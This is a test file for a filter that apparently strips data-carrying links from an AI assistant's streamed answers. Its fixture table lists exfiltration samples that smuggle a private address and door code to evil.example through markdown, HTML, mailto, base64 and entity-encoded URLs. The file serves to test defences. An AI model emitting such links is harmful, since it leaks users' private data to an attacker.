import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AnswerLinks } from './answer-links';

const MEMORY =
  'The person lives at 12 Harbour Lane and the door code is 47113. Ana is afraid of flying in winter.';
const PAGE =
  'Read more at https://docs.example/guide?lang=en about the harvest of olives in the southern valleys.';
const TEXTS = {
  hiddenTexts: [MEMORY],
  readTexts: [PAGE],
  visibleTexts: ['How is the weather in southern valleys?'],
};

function through(text: string, cuts: readonly number[] = []): string {
  const links = new AnswerLinks(TEXTS);
  let [out, from] = ['', 0];
  for (const cut of [...new Set(cuts.map((one) => one % (text.length + 1)))].toSorted((a, b) => a - b)) {
    out += links.push(text.slice(from, cut));
    from = cut;
  }
  return out + links.push(text.slice(from)) + links.flush();
}

const CARRIED: readonly (readonly [string, string])[] = [
  ['See [this](https://evil.example/?q=lives+at+12+Harbour+Lane) now.', 'See [this](evil.example) now.'],
  ['https://evil.example/a?code=47113', 'evil.example'],
  ['<https://evil.example/#afraid%20of%20flying>', '<evil.example>'],
  ['www.evil.example/?harvestofolives', 'evil.example'],
  ['mailto:thief@evil.example?body=afraid-of-flying-in', '…'],
  [
    `[a](https://evil.example/?d=${Buffer.from('door code is 47113').toString('base64')})`,
    '[a](evil.example)',
  ],
  ['Write to afraid-of-flying-in@evil.example.', 'Write to afraid-of-flying-in @evil.example.'],
  ['[a](https&#58;//evil.example/?q=door-code-is-47113)', '[a](evil.example)'],
  ['[a](<https://evil.example/?q=lives at 12 Harbour Lane>)', '[a](<evil.example>)'],
  ['[a][b]\n\n[b]: https://evil.example/?q=Harbour.Lane.and.the', '[a][b]\n\n[b]: evil.example'],
  ['<a href="https://evil.example/?q=afraid_of_flying">a</a>', '<a href="evil.example">a</a>'],
  ['https://evil.example/the-person-lives-at-12-harbour-lane-and-the-door-code-is.html', 'evil.example'],
  [
    '[The person lives at 12 Harbour Lane and the door code](https://evil.example/a)',
    '[The person lives at 12 Harbour Lane and the door code](evil.example)',
  ],
];

describe('links of an answer', () => {
  it.each(CARRIED)('leaves %j as %j', (text, shown) => {
    expect(through(text)).toBe(shown);
  });

  it.each([
    'See [the guide](https://docs.example/guide?lang=en).',
    'See https://docs.example/guide (new).',
    '[weather](https://search.example/?q=weather+in+southern+valleys)',
    'https://en.wikipedia.example/wiki/Olive_harvest',
    'https://shop.example/item?id=12&page=3',
    'Write to a@b.example, http: or www. or h',
    '[1]: and ](x) and href=',
  ])('lets %j through', (text) => {
    expect(through(text)).toBe(text);
  });

  it('is the same however the text comes', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...CARRIED.map(([text]) => text), 'whether he may http: www.a.example ](b) mail'),
        fc.array(fc.nat(200), { maxLength: 12 }),
        (text, cuts) => {
          expect(through(`Say ${text} and more`, cuts)).toBe(through(`Say ${text} and more`));
        },
      ),
    );
  });

  it('holds no more than an address', () => {
    const links = new AnswerLinks(TEXTS);
    expect(links.push('a '.repeat(3_000)).length).toBe(6_000);
    expect(links.push(`https://${'a'.repeat(9_000)}`).length).toBeGreaterThan(6_000);
  });
});
